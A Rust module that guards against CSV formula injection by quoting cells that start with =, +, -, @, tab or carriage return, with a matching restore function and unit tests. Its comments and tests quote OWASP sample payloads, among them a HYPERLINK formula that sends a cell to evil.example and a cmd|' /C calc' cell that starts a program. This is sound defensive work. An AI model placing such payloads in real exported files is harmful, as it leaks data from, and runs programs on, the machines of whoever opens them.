//! Cells of the spreadsheet files the product writes and reads back (CUS-13, issue 7 item 3).
//!
//! A spreadsheet opening a CSV file runs a cell that starts like a formula: `=HYPERLINK(…)`
//! sends data to another site, `-2+3+cmd|' /C calc'!A0` starts a program (OWASP, "CSV
//! injection"). Every CSV cell the product writes goes through [`neutralize`]; an import
//! reads cells through [`restore`], so an export still imports back as it is.

use std::borrow::Cow;

/// What makes a spreadsheet read a cell as a formula when it comes first: `=`, `+`, `-`, `@`,
/// and tab or carriage return, which some spreadsheets skip before looking (OWASP's list).
pub const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// True when a cell needs a `'` in front: it starts with a trigger, possibly after `'`s of its
/// own (so that [`restore`] can tell a value `'=x` from `=x` neutralised).
fn needs_quote(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_TRIGGERS)
}

/// A CSV cell as text that a spreadsheet shows rather than runs: a cell starting with `=`,
/// `+`, `-`, `@`, tab or carriage return gets a leading `'`, as OWASP advises; any other cell
/// is returned as it is.
///
/// Legitimate values get the `'` too: a phone number written `+86 138…`, a negative amount
/// `-12.50`, a note starting with `- `. A spreadsheet cannot tell them from formulas either,
/// so this is the price of safety (and the `'` is how Excel itself marks text typed that way).
/// A value that already starts with `'`s before a trigger gets one more, so that [`restore`]
/// gives back exactly the value.
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    if needs_quote(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The value of a cell read from a file the product may have written: the `'` that
/// [`neutralize`] put in front is dropped; any other cell is as it is.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_quote(rest) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cells_that_start_like_formulas_get_a_quote() {
        let table = [
            // OWASP's examples.
            (
                "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")",
                "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击\")",
            ),
            ("+SUM(1,2)", "'+SUM(1,2)"),
            ("@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"),
            ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            // Legitimate values that look the same to a spreadsheet.
            ("+86 138 1234 5678", "'+86 138 1234 5678"),
            ("-12.50", "'-12.50"),
            ("- 术后复查", "'- 术后复查"),
            ("@王医生", "'@王医生"),
            // A value of its own starting with quotes before a trigger: one more quote.
            ("'=1+1", "''=1+1"),
            ("''-1", "'''-1"),
            // Untouched.
            ("", ""),
            ("王芳", "王芳"),
            ("13812345678", "13812345678"),
            ("a=b", "a=b"),
            (" =1+1", " =1+1"),
            ("'quoted'", "'quoted'"),
            ("'", "'"),
            ("12-5", "12-5"),
            ("高血压;VIP", "高血压;VIP"),
        ];
        for (value, written) in table {
            assert_eq!(neutralize(value), written, "{value:?}");
            assert_eq!(restore(written), value, "{written:?}");
        }
    }

    #[test]
    fn restore_leaves_other_quotes_alone() {
        for cell in ["'", "'abc", "''", "'王芳'", "it's", "'+"] {
            let expected = if cell == "'+" { "+" } else { cell };
            assert_eq!(restore(cell), expected, "{cell:?}");
        }
    }
}
